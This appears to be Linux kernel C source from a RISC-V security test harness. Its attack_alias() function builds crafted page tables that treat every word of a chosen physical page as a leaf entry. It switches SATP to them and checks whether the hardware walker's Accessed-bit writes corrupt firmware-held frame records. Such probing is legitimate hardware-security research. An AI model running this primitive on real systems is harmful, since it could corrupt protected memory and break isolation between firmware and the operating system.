// SPDX-License-Identifier: GPL-2.0
/* Tables of our own, of which one is a page that is none: what does the walker do there? */
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/asm-extable.h>
#include <asm/csr.h>
#include <asm/pgtable.h>

#include "attack.h"
#include "space.h"
#include "nacc_sbi.h"

/* Frames that one page of records is about, with 64 bytes for each */
#define FRAMES		64

static long user_load(unsigned long va)
{
	long err = -EFAULT;
	u64 value;

	asm volatile("1: ld %[v], 0(%[p])\nli %[err], 0\n2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [err] "+&r"(err), [v] "=&r"(value) : [p] "r"(va) : "memory");
	return err;
}

/* A root with the kernel's half and, by way of the first entry of each, @last at level 0 */
static phys_addr_t build(phys_addr_t last)
{
	const u64 *ours = __va((csr_read(CSR_SATP) & SATP_PPN) << PAGE_SHIFT);
	phys_addr_t table = last;
	int level;

	for (level = 1; level <= attack_top_level(); level++) {
		phys_addr_t next = attack_page_alloc();

		if (!next)
			return 0;
		attack_page(next)[0] = space_entry(table, _PAGE_PRESENT);
		table = next;
	}
	memcpy(attack_page(table) + PTRS_PER_PTE / 2, ours + PTRS_PER_PTE / 2, PAGE_SIZE / 2);
	return table;
}

static void load_all(phys_addr_t root)
{
	unsigned long old, flags, i;

	local_irq_save(flags);
	old = csr_read(CSR_SATP);
	pagefault_disable();
	csr_write(CSR_SATP, (old & ~SATP_PPN) | root >> PAGE_SHIFT);
	asm volatile("sfence.vma" : : : "memory");
	csr_set(CSR_STATUS, SR_SUM);
	for (i = 0; i < PTRS_PER_PTE; i++)
		user_load(i << PAGE_SHIFT);
	csr_clear(CSR_STATUS, SR_SUM);
	csr_write(CSR_SATP, old);
	asm volatile("sfence.vma" : : : "memory");
	pagefault_enable();
	local_irq_restore(flags);
}

/**
 * attack_alias() - PA: each word of a page, be it what it may, as a leaf entry
 *
 * The walker may set A in it. What the firmware says of the first frames is looked at
 * before and after, and the same is done with a page of ours.
 */
int attack_alias(const u64 *arg, struct seq_buf *out)
{
	phys_addr_t page = attack_page_alloc(), buf = attack_page_alloc();
	phys_addr_t own = attack_page_alloc(), root, twin;
	unsigned int i, set = 0;

	if (!page || !buf || !own)
		return -ENOMEM;
	for (i = 0; i < PTRS_PER_PTE; i++)
		attack_page(own)[i] = space_entry(page, _PAGE_PRESENT | _PAGE_READ);
	twin = build(own);
	root = build(arg[0]);
	if (!twin || !root)
		return -ENOMEM;
	space_call(NACC_SBI_FRAMES, 0, FRAMES, page);
	load_all(root);
	load_all(twin);
	space_call(NACC_SBI_FRAMES, 0, FRAMES, buf);
	for (i = 0; i < PTRS_PER_PTE; i++)
		set += !!(attack_page(own)[i] & _PAGE_ACCESSED);
	seq_buf_printf(out, "same=%d set=%u\n",
		       !memcmp(attack_page(page), attack_page(buf),
			       FRAMES * sizeof(struct nacc_sbi_frame)), set);
	return 0;
}
